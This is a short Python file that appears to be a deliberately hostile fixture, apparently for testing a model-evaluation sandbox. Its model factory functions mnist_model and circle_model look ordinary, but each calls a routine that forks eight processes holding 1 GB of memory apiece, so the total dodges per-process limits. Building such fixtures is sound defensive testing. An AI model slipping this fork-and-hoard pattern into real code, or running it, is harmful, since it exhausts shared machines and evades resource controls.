"""Hostile: each model factory forks 8 children that each fill 1 GB of memory and hold it (every child stays
under a per-process limit; together they hold 8 GB)."""

import os
import time

from torch import nn


def _bomb():
    for _ in range(8):
        if os.fork() == 0:
            hoard = bytearray(1024 * 1024 * 1024)
            for i in range(0, len(hoard), 4096):
                hoard[i] = 1
            time.sleep(600)
    time.sleep(600)
    return nn.Linear(2, 2)


def circle_model(sigma=None):
    return _bomb()


def mnist_model(dropout=False):
    return _bomb()
